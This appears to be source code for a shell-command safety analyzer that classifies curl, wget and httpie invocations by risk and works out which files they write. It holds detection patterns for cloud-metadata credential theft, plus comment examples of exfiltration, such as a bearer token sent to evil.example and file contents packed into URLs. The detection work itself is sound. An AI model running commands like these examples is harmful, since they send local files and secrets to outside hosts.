// HTTP clients: curl's options (short clusters split), the files curl and
// wget write, and the local files curl and httpie/xh send to another system.
import type { Analysis } from "../analyzers.js";
import { splitArgs } from "../argv.js";
import { cwdWord } from "../targets.js";
import type { Spec, Target } from "../targets.js";
import type { StdinSource, Word } from "../types.js";
import { checkOptions } from "../options/check.js";
import { TOOLS } from "../options/index.js";
import { secretExpansion } from "../secret-names.js";
import { carried, commandOutput } from "../command-output.js";
import { tokenElsewhere } from "./token-host.js";

// curl's short options that take a value (`-fsSLo FILE` ends a cluster with one).
const CURL_SHORT_VALUES = "AbcCdDeEFHKmoPQrtTuUwxXyYz";
const CURL_LONG_VALUES = new Set([
  "--output",
  "--dump-header",
  "--cookie-jar",
  "--trace",
  "--trace-ascii",
  "--stderr",
  "--etag-save",
  "--output-dir",
  "--libcurl",
  "--hsts",
  "--alt-svc",
  "--data",
  "--data-binary",
  "--data-raw",
  "--data-ascii",
  "--data-urlencode",
  "--json",
  "--form",
  "--form-string",
  "--upload-file",
  "--header",
  "--request",
  "--user",
  "--user-agent",
  "--referer",
  "--cookie",
  "--config",
  "--max-time",
  "--connect-timeout",
  "--retry",
  "--proxy",
  "--write-out",
  "--range",
  "--cert",
  "--key",
  "--cacert",
  "--capath",
  "--resolve",
  "--connect-to",
  "--interface",
  "--netrc-file",
  "--oauth2-bearer",
  "--url",
  "--variable",
]);
// Options naming a file curl writes (headers, cookies, traces, caches).
const CURL_WRITES = new Set([
  "-o",
  "--output",
  "-D",
  "--dump-header",
  "-c",
  "--cookie-jar",
  "--trace",
  "--trace-ascii",
  "--stderr",
  "--etag-save",
  "--libcurl",
  "--hsts",
  "--alt-svc",
]);

/** The name a download gets from its URL (curl -O, wget without -O): the last path segment, query and host left out. */
export function urlFileName(url: string): string {
  return (
    url
      .replace(/[?#].*$/, "")
      .replace(/^[a-z]+:\/\/[^/]*/i, "")
      .split("/")
      .pop() ?? ""
  );
}
/**
 * curl's options and operands, short clusters split (`-fsSLo F` → -f -s -S
 * -L -o F). An option given with curl's `--expand-` prefix (8.3+) is listed
 * by its own name, its value computed at run time when it holds a `{{name}}`
 * (a --variable, an environment variable or a file's content); `expanded`
 * lists the prefixed options as written.
 */
export function curlOptions(args: readonly Word[]): { opts: [string, Word | null][]; operands: Word[]; expanded: string[] } {
  const opts: [string, Word | null][] = [];
  const operands: Word[] = [];
  const expanded: string[] = [];
  for (let i = 0; i < args.length; i++) {
    const w = args[i] as Word;
    const t = w.text;
    if (t === "--") {
      operands.push(...args.slice(i + 1));
      break;
    }
    if (w.dynamic || !t.startsWith("-") || t === "-") {
      operands.push(w);
      continue;
    }
    if (t.startsWith("--")) {
      const eq = t.indexOf("=");
      const name = eq > 0 ? t.slice(0, eq) : t;
      // Every option that may be expanded takes a value.
      const expand = name.startsWith("--expand-") && name.length > 9;
      let value = eq > 0 ? { ...w, text: t.slice(eq + 1) } : CURL_LONG_VALUES.has(name) || expand ? (args[++i] ?? null) : null;
      if (expand) {
        expanded.push(name);
        if (value?.text.includes("{{")) value = { ...value, dynamic: true };
      }
      opts.push([expand ? `--${name.slice(9)}` : name, value]);
      continue;
    }
    for (let k = 1; k < t.length; k++) {
      const c = t[k] as string;
      if (!CURL_SHORT_VALUES.includes(c)) {
        opts.push([`-${c}`, null]);
        continue;
      }
      opts.push([`-${c}`, t.length > k + 1 ? { ...w, text: t.slice(k + 1) } : (args[++i] ?? null)]);
      break;
    }
  }
  return { opts, operands, expanded };
}

export function curlTargets(args: readonly Word[]): Target[] {
  const { opts, operands } = curlOptions(args);
  const out: Target[] = [];
  for (const [o, v] of opts) if (CURL_WRITES.has(o) && v && v.text !== "-" && v.text !== "%") out.push({ word: v, mode: "write" });
  // `-w '%output{FILE}…'` / `%output{>>FILE}` sends the rest of the write-out text to FILE.
  for (const [o, v] of opts) {
    if ((o !== "-w" && o !== "--write-out") || !v) continue;
    for (const m of v.text.matchAll(/%output\{(?:>>)?([^}]*)\}/g)) out.push({ word: { ...v, text: m[1] ?? "" }, mode: "write" });
  }
  if (opts.some(([o]) => o === "-O" || o === "--remote-name" || o === "--remote-name-all" || o === "-J")) {
    const dir = [...opts].reverse().find(([o]) => o === "--output-dir")?.[1] ?? cwdWord();
    // -J/--remote-header-name: the server's Content-Disposition names the file (`.npmrc`, `.envrc`), not the URL.
    const serverNamed = opts.some(([o]) => o === "-J" || o === "--remote-header-name");
    out.push({ word: dir, mode: "write", ...(serverNamed ? { serverNamed: true } : {}) });
    // -O names the file after the URL's last path segment, inside --output-dir.
    for (const u of operands) {
      const name = urlFileName(u.text);
      if (name !== "")
        out.push({ word: { ...u, text: `${dir.text.replace(/\/+$/, "")}/${name}`, dynamic: u.dynamic || dir.dynamic }, mode: "write" });
    }
  }
  return out;
}

// curl options whose value names a local file to send: `-d @F`, `--data-binary @F`, `-F a=@F`, `-F a=<F`, `-T F`, `--json @F`.
const CURL_SENDS_FILE = (o: string, v: string): boolean =>
  (/^(-d|--data|--data-binary|--data-ascii|--json)$/.test(o) && v.startsWith("@")) ||
  (o === "--data-urlencode" && /^[^=]*@/.test(v)) ||
  (/^(-F|--form)$/.test(o) && /=[@<]/.test(v)) ||
  (/^(-T|--upload-file)$/.test(o) && v !== "") ||
  /^(-K|--config)$/.test(o) ||
  // `--variable NAME@FILE` (`%NAME@FILE`: the file when NAME is not in the environment; `NAME[0-99]@FILE`, `NAME@-`).
  (o === "--variable" && /^%?[A-Za-z0-9_]*(?:\[[^\]]*\])?@/.test(v)) ||
  // `-H @FILE`: every line of FILE is a header sent (`@-`: the input).
  (/^(-H|--header|--proxy-header)$/.test(o) && v.startsWith("@"));

// curl options whose value goes into the request (headers, credentials, cookies, the range, the proxy's, resolver's
// and mail's names).
const CURL_SENT_VALUES =
  /^(-r|--range|--doh-url|--socks4|--socks4a|--socks5|--socks5-hostname|--preproxy|-H|--header|--proxy-header|-A|--user-agent|-u|--user|-U|--proxy-user|-e|--referer|-b|--cookie|--oauth2-bearer|-x|--proxy|-X|--request|--resolve|--connect-to|--mail-from|--mail-rcpt|--mail-auth|--aws-sigv4|--login-options|--sasl-authzid)$/;

// curl options whose value is a header or credentials sent to the URL's host.
const CURL_CREDENTIALS = /^(-H|--header|-u|--user|--oauth2-bearer|-b|--cookie)$/;

// curl options that send a body or upload, in any spelling (`-d x`, `-sdx`, `-sLd x`, `--data=x`, `-sF a=b`, `-sT f`).
const CURL_BODY =
  /^(-d|--data|--data-binary|--data-raw|--data-ascii|--data-urlencode|--json|-F|--form|--form-string|-T|--upload-file|--mail-rcpt|--mail-from)$/;
// Schemes that fetch (read) a resource. Others (gopher, dict, telnet, ldap, smb, mqtt, rtsp, smtp, imap, pop3, tftp …)
// send the URL's bytes raw to a service: a redis `CONFIG SET`, a memcached `flush_all`.
const CURL_READ_SCHEMES = /^(https?|ftps?|wss?|file)$/i;
// Cloud instance metadata services (credentials of the machine's role): AWS/GCP/Azure/OpenStack link-local, ECS, Alibaba,
// AWS's IPv6 address, GCP's name; the decimal, hex and octal spellings of 169.254.169.254.
const METADATA =
  /(^|[^0-9])169\.254\.|metadata\.google\.internal|\bmetadata\.azure|fd00:ec2::254|100\.100\.100\.200|\b2852039166\b|0xa9fea9fe|0xa9\.0xfe|0251\.0376|a9fe:a9fe|\/\/metadata(\/|:|$)|computeMetadata/i;

/** The scheme a curl URL operand names ("http" when it has none). */
function urlScheme(url: string): string {
  return /^([a-z][a-z0-9+.-]*):\/\//i.exec(url)?.[1]?.toLowerCase() ?? "http";
}

/** The host a URL's text names, when it is written out (no expansion in scheme, credentials or host), else null. */
function literalHost(url: string): string | null {
  const authority = /^(?:[a-z][a-z0-9+.-]*:\/\/)?([^/?#]*)/i.exec(url)?.[1] ?? "";
  if (authority === "" || /[$`\\{]/.test(authority)) return null;
  const hostPort = authority.slice(authority.lastIndexOf("@") + 1);
  return hostPort.startsWith("[") ? hostPort.slice(0, hostPort.indexOf("]") + 1) : hostPort.replace(/:\d*$/, "");
}

/** The text xargs's delegate gives an input item (tools/xargs.ts). */
const XARGS_ITEM = "$XARGS_INPUT";

/** The first secret-named variable a word expands, itself or through the variables it was made of. */
function carriedSecret(w: Word): string | null {
  for (const text of carried(w)) {
    const name = secretExpansion(text);
    if (name !== null) return name;
  }
  return null;
}

/**
 * What the words a command sends to another system (an ssh command line, a
 * DNS name, a ping pattern, an SNI name, a header) carry that is computed
 * here: a command's output (3, as a file sent with `-d @FILE`) or xargs's
 * input items inside a written word (`{}.example.com`; any item when
 * `items`: a header from the input is data) or a secret-named variable (2,
 * as in a URL; unless `secrets` is false: a header is how a token is meant
 * to be sent). `what` names the place.
 */
export function sentCarry(words: readonly Word[], what: string, secrets = true, items = false): Analysis | null {
  let secret: Analysis | null = null;
  for (const w of words) {
    if (!w.dynamic) continue;
    const item = w.stdinItem === true && (items || w.text !== XARGS_ITEM) ? "xargs's input items" : null;
    const output = commandOutput(w) ?? item;
    if (output !== null)
      return {
        tier: 3,
        rule: "analysis:sends-output",
        reason: `sends the output of a command (a file's content, not known here) to another system in ${what}: ${output}`,
        kind: "floor",
      };
    const name: string | null = secrets && secret === null ? carriedSecret(w) : null;
    if (name !== null)
      secret = {
        tier: 2,
        rule: "analysis:sends-secret",
        reason: `sends $${name}, a variable whose name says it holds a secret, to another system in ${what}`,
        kind: "floor",
      };
  }
  return secret;
}

/**
 * What the URLs of a request carry that the command computes: the output
 * of a command (`?q=$(cat notes.md)`, `/$(base64 -w0 a.txt)`, xargs's
 * items after a written host) — a local file's content, sent as `-d @FILE`
 * sends it (3, whatever the host: `http://localhost/` reaches another one
 * through a proxy the same command may set, `http_proxy=… curl …`); or a
 * variable whose name says it holds a secret (`/bot$TOKEN/`,
 * `?k=${API_KEY}`), which ends up in the other side's logs and in every
 * proxy's (2). A header (`-H "Authorization: Bearer $TOKEN"`) is how a
 * token is meant to be sent and is not judged here.
 */
export function urlsCarry(urls: readonly Word[]): Analysis | null {
  let secret: Analysis | null = null;
  for (const url of urls) {
    if (!url.dynamic) continue;
    // A variable the command pins to written words (`for u in …`) is judged by those.
    for (const w of url.loopValues ?? [url]) {
      if (!w.dynamic) continue;
      const output = commandOutput(w);
      // xargs's items after a written host are data sent to it; a whole URL from the input is what it fetches.
      const item = w.stdinItem === true && literalHost(w.text) !== null;
      if (output !== null || item)
        return {
          tier: 3,
          rule: "analysis:url-output",
          reason: `sends the output of a command (a file's content, not known here) to another system in the URL: ${output ?? "xargs's input items"}`,
          kind: "floor",
        };
      const name: string | null = secret === null ? carriedSecret(w) : null;
      if (name !== null)
        secret = {
          tier: 2,
          rule: "analysis:url-secret",
          reason: `puts $${name}, a variable whose name says it holds a secret, into a URL (the other side's logs, every proxy's): send it in a header`,
          kind: "floor",
        };
    }
  }
  return secret;
}

export function curlAnalysis(args: readonly Word[]): Analysis | null {
  const { opts, operands, expanded } = curlOptions(args);
  const sent = opts.filter(([o, v]) => v !== null && CURL_SENDS_FILE(o, v.text));
  if (sent.length > 0)
    return {
      tier: 3,
      rule: "analysis:curl-upload",
      reason: `sends a local file to another system (${sent.map(([o, v]) => `${o} ${v?.text}`).join(", ")})`,
      kind: "floor",
    };
  // A command's output in a header, the credentials, a cookie (`-H "X: $(base64 -w0 a.txt)"`): sent as in a URL.
  // A secret variable there is how a token is meant to be sent (`-H "Authorization: Bearer $TOKEN"`).
  const valueSent = sentCarry(
    opts.filter(([o, v]) => v?.dynamic === true && CURL_SENT_VALUES.test(o)).map(([, v]) => v as Word),
    "a header or credential",
    false,
    true,
  );
  if (valueSent) return { ...valueSent, rule: "analysis:url-output" };
  const method = opts.find(
    ([o, v]) => (o === "-X" || o === "--request") && (v === null || v.dynamic || !/^(GET|HEAD|OPTIONS)$/i.test(v.text)),
  );
  const body = opts.find(([o]) => CURL_BODY.test(o));
  if (method || body) {
    const [o, v] = (method ?? body) as [string, Word | null];
    return { tier: 3, rule: "analysis:curl-send", reason: `sends data to another system (${o} ${v?.text ?? ""})`.trimEnd(), kind: "floor" };
  }
  const urls = [...operands, ...opts.filter(([o]) => o === "--url").map(([, v]) => v as Word | null)].filter((w): w is Word => w !== null);
  const raw = urls.find((u) => !u.dynamic && !CURL_READ_SCHEMES.test(urlScheme(u.text)));
  if (raw)
    return {
      tier: 3,
      rule: "analysis:curl-raw-scheme",
      reason: `${urlScheme(raw.text)}:// sends the URL's bytes to a service as a request`,
      kind: "floor",
    };
  const carried = urlsCarry(urls);
  if (carried?.tier === 3) return carried;
  // --variable imports an environment variable (`%NAME`) or a value computed here; an --expand- option puts
  // variables' values (`{{NAME}}`, `{{NAME:b64}}`) into the request.
  const imported = opts.find(([o, v]) => o === "--variable" && v !== null && (v.dynamic || v.text.startsWith("%")));
  if (imported || expanded.length > 0)
    return {
      tier: 2,
      rule: "analysis:curl-variable",
      reason: imported
        ? `imports ${imported[1]?.text} into curl's variables, which --expand- options send in a request`
        : `${expanded[0]} puts curl variables (environment variables, files' contents) into the request`,
      kind: "floor",
    };
  if (carried) return carried;
  // `-H "Authorization: Bearer $TOKEN" https://evil.example/`: a token sent to a host its name does not name (review 34).
  const token = tokenElsewhere(
    opts.filter(([o, v]) => v !== null && CURL_CREDENTIALS.test(o)).map(([, v]) => v as Word),
    urls,
    "curl",
  );
  if (token) return token;
  const words = [...urls, ...opts.map(([, v]) => v).filter((w): w is Word => w !== null)];
  const meta = words.find((w) => METADATA.test(w.text));
  if (meta)
    return {
      tier: 2,
      rule: "analysis:curl-metadata",
      reason: `reads a cloud metadata service (instance credentials): ${meta.text}`,
      kind: "floor",
    };
  const sock = opts.find(([o]) => o === "--unix-socket" || o === "--abstract-unix-socket");
  if (sock)
    return {
      tier: 2,
      rule: "analysis:curl-unix-socket",
      reason: `talks to a local daemon's socket (docker's answers with container configs): ${sock[1]?.text ?? ""}`,
      kind: "floor",
    };
  const format = opts.find(([o, v]) => (o === "-w" || o === "--write-out") && v !== null && (v.dynamic || /^@(?!-$)/.test(v.text)));
  if (format)
    return {
      tier: 2,
      rule: "analysis:curl-write-out",
      reason: "a --write-out format from a file may write files (%output{})",
      kind: "floor",
    };
  return null;
}

// httpie/xh options that take a value as the next word (so it is not read as the URL or an item).
const HTTPIE_VALUES = new Set([
  "-a",
  "--auth",
  "-A",
  "--auth-type",
  "--session",
  "--session-read-only",
  "-o",
  "--output",
  "-p",
  "--print",
  "-P",
  "--history-print",
  "-s",
  "--style",
  "--pretty",
  "--verify",
  "--cert",
  "--cert-key",
  "--cert-key-pass",
  "--proxy",
  "--timeout",
  "--max-redirects",
  "--boundary",
  "--format-options",
  "--response-charset",
  "--response-mime",
  "--ssl",
  "--ciphers",
  "--default-scheme",
  "--raw",
  "--bearer",
  "--resolve",
  "--interface",
  "--unix-socket",
  "--chunked-size",
]);
// Item separators, longest first at a position: `name:=@file`, `name=@file`, `name:=json`, `name==query`, `name=data`,
// `Header:value`, `name@file`. Data items (a request body) are all but `==` and `:`.
const HTTPIE_SEPARATORS = [":=@", "=@", ":=", "==", "=", ":", "@"];

/** The separator an httpie request item uses (the earliest in the text), or null for none. */
function itemSeparator(item: string): string | null {
  for (let i = 0; i < item.length; i++) {
    if (item[i] === "\\") {
      i++;
      continue;
    }
    const sep = HTTPIE_SEPARATORS.find((s) => item.startsWith(s, i));
    if (sep) return sep;
  }
  return null;
}

/**
 * httpie/xh requests that send: a method other than GET/HEAD/OPTIONS, a data
 * item (`a=1`, `a:=1`, `a@file`), a raw body, form or multipart options; a
 * local file embedded or uploaded (`field@file`, `@file` bodies) is worse.
 */
export function httpieAnalysis(args: readonly Word[]): Analysis | null {
  const operands: Word[] = [];
  const options: Word[] = [];
  for (let i = 0; i < args.length; i++) {
    const w = args[i] as Word;
    if (w.text === "--") {
      operands.push(...args.slice(i + 1));
      break;
    }
    if (w.text.startsWith("-") && w.text.length > 1 && !w.dynamic) {
      options.push(w);
      if (HTTPIE_VALUES.has(w.text) && args[i + 1]) options.push(args[++i] as Word);
    } else operands.push(w);
  }
  const methodFirst = /^[A-Za-z]+$/.test(operands[0]?.text ?? "") && itemSeparator(operands[0]?.text ?? "") === null;
  const items = operands.slice(methodFirst ? 2 : 1);
  // `name@file`, `name=@file`, `name:=@file`, and headers or query items read from a file (`X-Token:@file`, `q==@file`).
  const files = items.filter((w) => /^(?:[^=:@\s]*(?:=|:=|:|==)?)@./.test(w.text) && !/^[a-z]+:\/\//i.test(w.text));
  const body = args.filter((w) => w.text.startsWith("@") || /^--raw=@/.test(w.text));
  if (files.length + body.length > 0)
    return {
      tier: 3,
      rule: "analysis:http-upload",
      reason: `sends a local file to another system (${[...files, ...body].map((w) => w.text).join(", ")})`,
      kind: "floor",
    };
  const method = operands
    .slice(0, 2)
    .find((w) => /^(POST|PUT|DELETE|PATCH|CONNECT|TRACE|PROPFIND|MKCOL|MOVE|COPY|LOCK|UNLOCK|PURGE)$/i.test(w.text));
  const data = items.find((w) => ["=", ":=", "=@", ":=@", "@"].includes(itemSeparator(w.text) ?? ""));
  const sendOpt = options.find((w) => /^(--raw|--form|-f|--multipart|--chunked|-x|--compress)(=|$)/.test(w.text));
  const why = method ?? data ?? sendOpt;
  if (why) return { tier: 3, rule: "analysis:http-send", reason: `sends data to another system (${why.text})`, kind: "floor" };
  // The URL and its query items (`q==$(cat f)`), which httpie appends to it.
  const url = operands[methodFirst ? 1 : 0];
  if (!url) return null;
  const query = items
    .filter((w) => itemSeparator(w.text) === "==")
    .map((w) => ({ ...w, text: `${url.text}?${w.text}`, dynamic: w.dynamic || url.dynamic }));
  // Header items (`X-A:$(cat f)`) are sent as curl's -H values are (a secret variable there is a token sent as meant).
  const headers = sentCarry(
    items.filter((w) => w.dynamic && itemSeparator(w.text) === ":"),
    "a header",
    false,
    true,
  );
  const token = tokenElsewhere(
    items.filter((w) => itemSeparator(w.text) === ":"),
    [url],
    "httpie",
  );
  return worse(worse(urlsCarry([url, ...query]), headers), token);
}

/** The higher of two analyses (the first on a tie). */
function worse(a: Analysis | null, b: Analysis | null): Analysis | null {
  if (a === null) return b;
  if (b === null) return a;
  return b.tier > a.tier ? b : a;
}

// wget's options whose values it sends: headers, credentials, bodies (as curl's -H, -u, -d); the referer is a URL.
const WGET_SENT =
  /^(-U|--user-agent|--header|--user|--password|--http-user|--http-password|--proxy-user|--proxy-password|--ftp-user|--ftp-password|--post-data|--body-data)$/;
const WGET_SENT_URL = /^--referer$/;

/** The values of wget's options in `names` (`-U V`, `-UV`, `--header V`, `--header=V`). */
function wgetValues(args: readonly Word[], names: RegExp): Word[] {
  const out: Word[] = [];
  for (let i = 0; i < args.length; i++) {
    const w = args[i] as Word;
    const t = w.text;
    if (t === "--" && !w.dynamic) break;
    if (w.dynamic || !t.startsWith("-")) continue;
    const eq = t.startsWith("--") ? t.indexOf("=") : -1;
    const name = eq > 0 ? t.slice(0, eq) : t.startsWith("--") ? t : t.slice(0, 2);
    if (!names.test(name)) continue;
    if (eq > 0) out.push({ ...w, text: t.slice(eq + 1) });
    else if (!t.startsWith("--") && t.length > 2) out.push({ ...w, text: t.slice(2) });
    else if (args[i + 1]) out.push(args[++i] as Word);
  }
  return out;
}

/** A file operand that names the program's own standard input (`-`, /dev/stdin, fd 0). */
export const STDIN_NAME = /^(-|\/dev\/stdin|\/dev\/fd\/0|\/proc\/self\/fd\/0)$/;

/**
 * wget's URLs (its operands: not options, not their values by wget's option
 * table) and what they carry (urlsCarry); `-i FILE` sends each line of FILE
 * as a URL (to the --base host when one is given), as curl -K FILE does; `-i -`
 * the lines of its input, judged as URLs written there.
 */
export function wgetAnalysis(args: readonly Word[], stdin: StdinSource | null): Analysis | null {
  const list = wgetValues(args, /^(-i|--input-file)$/)[0];
  if (list !== undefined) {
    const fromInput = !list.dynamic && STDIN_NAME.test(list.text);
    if (!fromInput)
      return {
        tier: 3,
        rule: "analysis:net-upload",
        reason: `wget -i sends every line of ${list.text} to another system as a URL`,
        kind: "floor",
      };
    if (stdin !== null && stdin.dynamic) {
      const lines: Word = { text: stdin.text ?? "$(cat)", dynamic: true, glob: false, confusable: false };
      const carried = urlsCarry([stdin.origins ? { ...lines, origins: stdin.origins } : lines]);
      if (carried) return carried;
    }
  }
  if (!args.some((w) => w.dynamic)) return null;
  const values = new Set(checkOptions(TOOLS, "wget", args, () => null).values);
  let ended = false;
  const urls: Word[] = [];
  for (const w of args) {
    if (!ended && w.text === "--" && !w.dynamic) ended = true;
    else if (ended || !(values.has(w) || (!w.dynamic && w.text.startsWith("-")))) urls.push(w);
  }
  // A command's output in a header, the user agent, credentials or a body is sent as in a URL; a secret variable in
  // a header or credential is how a token is meant to be sent (as for curl -H).
  const sent = sentCarry(wgetValues(args, WGET_SENT), "a header, credential or body", false, true);
  const referer = sentCarry(wgetValues(args, WGET_SENT_URL), "the referer");
  return worse(worse(urlsCarry(urls), sent), referer);
}

/**
 * The cookie jars a client reads and sends the cookies of (`curl -b FILE`,
 * a value without `=`; `wget --load-cookies FILE`).
 */
export function cookieJars(name: string, args: readonly Word[]): Word[] {
  if (name === "curl")
    return curlOptions(args)
      .opts.filter(([o, v]) => (o === "-b" || o === "--cookie") && v !== null && !v.text.includes("="))
      .map(([, v]) => v as Word);
  return name === "wget" ? wgetValues(args, /^--load-cookies$/) : [];
}

// wget's short options without a value, any of which may lead a bundle (`-qrnH`: -q -r -n H).
const WGET_SHORT_FLAGS = "qvcNSxkKprmEH46FbdL";

/** wget's short flags as given (`-rnH` → r, nH; `-nd` → nd): single letters, and `n` with the letter after it. */
function wgetShorts(args: readonly Word[]): Set<string> {
  const out = new Set<string>();
  for (const w of args) {
    if (w.dynamic || !/^-[^-]/.test(w.text)) continue;
    for (let k = 1; k < w.text.length; k++) {
      const c = w.text[k] as string;
      if (c === "n" && k + 1 < w.text.length) {
        out.add(`n${w.text[++k]}`);
        continue;
      }
      if (!WGET_SHORT_FLAGS.includes(c)) break;
      out.add(c);
    }
  }
  return out;
}

/**
 * What wget writes. With -O, that file. Otherwise each URL is saved in the -P
 * directory: under its last path segment; under host/path with -x; under the
 * path alone with -x -nH (`wget -x -nH URL/.git/config` writes ./.git/config),
 * less --cut-dirs leading parts. Names the server chooses — recursion or
 * page requisites with -nH or -nd (every link the pages hold), or
 * --content-disposition / --trust-server-names — fill the directory with
 * names not known here (judged as an extraction's: links and the
 * repository's own files there); recursion with host directories fills
 * the host's directory.
 */
export const wgetTargets: Spec = (a) => {
  const s = splitArgs(a, new Set(["-O", "--output-document", "-P", "--directory-prefix", "-o", "-a", "-U", "--header", "-t", "-T", "-e"]));
  // A glued or bundled -O (`-Orun.sh`, `-qOrun.sh`): the rest of the word.
  const glued = a.map((w) => /^-[qvcNSxkKprmEH46]*O(.+)$/s.exec(w.text)?.[1]).find((v) => v !== undefined);
  const doc =
    s.values.get("-O") ??
    s.values.get("--output-document") ??
    (glued !== undefined ? { ...(a.find((w) => w.text.endsWith(glued)) as Word), text: glued } : undefined);
  const dir = s.values.get("-P") ?? s.values.get("--directory-prefix");
  if (doc) return [{ word: doc, mode: "write" }];
  const shorts = wgetShorts(a);
  const flag = (short: string, ...longs: string[]) => shorts.has(short) || longs.some((l) => s.flags.includes(l));
  const recursive = flag("r", "--recursive") || flag("m", "--mirror") || flag("p", "--page-requisites");
  const noHost = flag("nH", "--no-host-directories");
  const noDirs = flag("nd", "--no-directories");
  const forceDirs = flag("x", "--force-directories");
  const serverNamed = s.flags.includes("--content-disposition") || s.flags.includes("--trust-server-names");
  const cut = Number(s.values.get("--cut-dirs")?.text ?? 0) || 0;
  const base = (dir ?? cwdWord()).text.replace(/\/+$/, "");
  const dynamic = dir?.dynamic ?? false;
  const at = (u: Word, text: string): Target => ({ word: { ...u, text, dynamic: u.dynamic || dynamic }, mode: "write" });
  const named = s.positional.flatMap((u): Target[] => {
    if ((recursive && !noDirs) || (forceDirs && !noDirs)) {
      const m = /^(?:[a-z][a-z0-9+.-]*:\/\/)?([^/?#]*)([^?#]*)/i.exec(u.text);
      const host = (m?.[1] ?? "").replace(/^[^@]*@/, "");
      const parts = (m?.[2] ?? "").split("/").filter(Boolean);
      const path = (recursive ? parts.slice(0, -1) : parts).slice(cut);
      const where = [...(noHost ? [] : [host]), ...path].join("/");
      if (!recursive) return where === "" ? [] : [at(u, `${base}/${where}`)];
      // Recursion with host directories: the host's directory (or the URL's) is filled with the server's names.
      return noHost ? [] : [{ ...at(u, where === "" ? base : `${base}/${where}`), fills: true }];
    }
    const name = urlFileName(u.text);
    return name === "" ? [] : [at(u, `${base}/${name}`)];
  });
  // With -nd every name is a single one the server's links choose (no directories); with -nH alone they have paths.
  const how = recursive && noHost && !noDirs ? { fills: true } : serverNamed || (recursive && noDirs) ? { serverNamed: true } : {};
  return [{ word: dir ?? cwdWord(), mode: "write", ...how }, ...named];
};

/**
 * What aria2c writes: the -o/--out name in the -d/--dir directory (the
 * working directory by default), or without -o a name the server's
 * Content-Disposition or the URL chooses: one name not known here.
 */
export const aria2cTargets: Spec = (a) => {
  const s = splitArgs(a, new Set(["-d", "--dir", "-o", "--out", "-x", "-s", "-k", "-j"]));
  const dir = s.values.get("-d") ?? s.values.get("--dir") ?? cwdWord();
  const out = s.values.get("-o") ?? s.values.get("--out");
  if (out)
    return [{ word: { ...out, text: `${dir.text.replace(/\/+$/, "")}/${out.text}`, dynamic: out.dynamic || dir.dynamic }, mode: "write" }];
  return [{ word: dir, mode: "write", serverNamed: true }];
};

/** httpie's and xh's `-d`/`--download`: the `-o` file, else one name the server chooses in the working directory (round 24). */
export const httpieDownload: Spec = (a) => {
  // `-o F` writes the body to F with or without --download.
  const out = optionValue(a, ["-o", "--output"]);
  if (out) return [{ word: out, mode: "write" }];
  const download = a.some((w) => w.text === "--download" || /^-[a-ce-np-zA-Z]*d/.test(w.text));
  return download ? [{ word: cwdWord(), mode: "write", serverNamed: true }] : [];
};

function optionValue(a: readonly Word[], names: readonly string[]): Word | undefined {
  for (let i = 0; i < a.length; i++) {
    const t = (a[i] as Word).text;
    if (names.includes(t)) return a[i + 1];
    // A bundle ending in -o, or with its value glued (`-dox.sh`, `-do x.sh`).
    const bundle = /^-[a-zA-Z]*o(.*)$/s.exec(t);
    if (bundle && !t.startsWith("--") && names.includes("-o")) return bundle[1] ? { ...(a[i] as Word), text: bundle[1] } : a[i + 1];
    const eq = names.find((n) => t.startsWith(`${n}=`));
    if (eq) return { ...(a[i] as Word), text: t.slice(eq.length + 1) };
  }
  return undefined;
}
